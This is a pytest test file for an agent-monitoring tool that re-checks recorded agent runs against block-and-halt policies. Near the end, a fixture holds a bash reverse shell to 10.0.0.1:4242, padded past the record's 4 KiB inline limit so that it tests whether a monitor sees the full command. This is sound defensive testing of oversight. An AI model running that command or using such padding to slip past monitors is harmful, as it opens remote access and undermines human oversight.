"""Re-policing recorded runs with another policy: no sandbox, no model."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from hazmat.errors import ConfigError
from hazmat.policy.base import Decision, Observation, RuleMatch, ToolCall
from hazmat.record.events import is_blob_ref
from hazmat.replay.repolice import repolice_run

from .conftest import HALT_SCRIPT, STRICT_POLICY, TASKS, invoke, make_run

pytestmark = [pytest.mark.timeout(300)]


def test_stricter_policy_finds_the_earlier_halt(halted_run: Path, tmp_path: Path) -> None:
    policy = tmp_path / "strict.yaml"
    policy.write_text(STRICT_POLICY)
    report = repolice_run(halted_run, policy)
    (ep,) = report.episodes
    assert ep.recorded_halt_step == 4
    assert ep.first_halt_step == 2 and ep.halt_rule == "no-find"
    assert ep.first_block_step == 2
    changed = [(d.step, d.stage, d.recorded, d.new) for d in ep.differences]
    assert changed[0] == (2, "before", "allow", "halt")
    assert all(d.after_halt for d in ep.differences[1:])
    # the recorded halt (step 4) never ran: its after stage is not evaluated
    assert 4 in ep.not_evaluated


def test_same_policy_reproduces_every_recorded_decision(
    halted_run: Path, solution_run: Path
) -> None:
    for run in (halted_run, solution_run):
        report = repolice_run(run, "default")
        for ep in report.episodes:
            assert ep.differences == [], (ep.episode_id, ep.differences)
    (ep,) = repolice_run(halted_run, "default").episodes
    assert ep.first_halt_step == 4 == ep.recorded_halt_step


def test_a_policy_object_and_the_command(halted_run: Path, tmp_path: Path) -> None:
    class NoSeq:
        name = "no-seq"

        def session(self, *, secrets: dict[str, str] | None = None) -> NoSeq:
            return self

        def before(self, call: ToolCall) -> Decision:
            if "seq " in str(call.args.get("command", "")):
                return Decision(
                    action="block",
                    reason="no seq",
                    rules=[RuleMatch(rule="no-seq", action="block")],
                )
            return Decision()

        def after(self, observation: Observation) -> Decision:
            return Decision()

    (ep,) = repolice_run(halted_run, NoSeq()).episodes  # type: ignore[arg-type]
    assert ep.first_block_step == 1 and ep.first_halt_step is None
    # the recorded halt and the recorded logs disappear under this lax policy
    assert any(d.step == 4 and d.recorded == "halt" and d.new == "allow" for d in ep.differences)

    policy = tmp_path / "strict.yaml"
    policy.write_text(STRICT_POLICY)
    res = invoke("replay", str(halted_run), "--policy", str(policy), "--json")
    assert res.exit_code == 0, res.output
    data = json.loads(res.output.strip().splitlines()[-1])
    assert data["episodes"][0]["first_halt_step"] == 2
    human = invoke("replay", str(halted_run), "--policy", str(policy)).output
    assert "halts at step 2 (no-find)" in human and "recorded halt at step 4" in human
    assert "step 2 before bash: allow -> halt [no-find]" in human
    with pytest.raises(ConfigError, match="no such file"):
        invoke("replay", str(halted_run), "--policy", str(tmp_path / "missing.yaml"))
    with pytest.raises(ConfigError, match="do not apply"):
        invoke("replay", str(halted_run), "--policy", str(policy), "--until", "2")


def test_repolice_without_the_task_folder_still_runs(task_copy: Path, tmp_path: Path) -> None:
    script = tmp_path / "halt.json"
    script.write_text(json.dumps(HALT_SCRIPT))
    run_dir = make_run(tmp_path / "runs", task_copy, agent=f"scripted:{script}")
    shutil.rmtree(task_copy)
    (ep,) = repolice_run(run_dir, "default").episodes
    assert ep.first_halt_step == 4
    assert any("without its secrets" in n for n in ep.notes)


PADDED_SHELL = "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1 # " + "A" * 5000
"""A reverse shell padded past the record's 4 KiB inline limit (issue 13, item 9)."""


def test_padded_reverse_shell_is_repoliced_from_its_full_arguments(tmp_path: Path) -> None:
    script = tmp_path / "padded.json"
    script.write_text(
        json.dumps(
            [
                {"tool": "bash", "command": "echo warming up"},
                {"tool": "bash", "command": PADDED_SHELL},
                {"tool": "submit", "answer": "never reached"},
            ]
        )
    )
    run_dir = make_run(tmp_path / "runs", TASKS / "find-file", agent=f"scripted:{script}")
    events = [json.loads(line) for line in (run_dir / "events.jsonl").read_text().splitlines()]
    (call,) = [e for e in events if e["event"] == "tool_call" and e["step"] == 2]
    assert is_blob_ref(call["args"]["command"])  # the attack's shape: args are a blob ref
    (ep,) = repolice_run(run_dir, "default").episodes
    assert ep.recorded_halt_step == 2 and ep.recorded_end == "halted"
    assert (ep.first_halt_step, ep.halt_rule) == (2, "reverse-shell")
    assert ep.differences == [] and ep.unreadable == []
    human = invoke("replay", str(run_dir), "--policy", "default").output
    assert "halts at step 2 (reverse-shell)" in human and "0 decision(s) differ" in human
    # show prints the call whole (the padding and what follows it)
    shown = invoke("show", str(run_dir), "--step", "2").output
    assert "/dev/tcp/10.0.0.1/4242" in shown and shown.count("A") >= 5000
    # a missing argument blob is said, never re-policed as something else
    (run_dir / "blobs" / call["args"]["command"]["blob"]).unlink()
    (ep,) = repolice_run(run_dir, "default").episodes
    assert ep.unreadable == [2] and ep.first_halt_step is None
    assert any("missing from the record" in n and "not re-policed" in n for n in ep.notes)
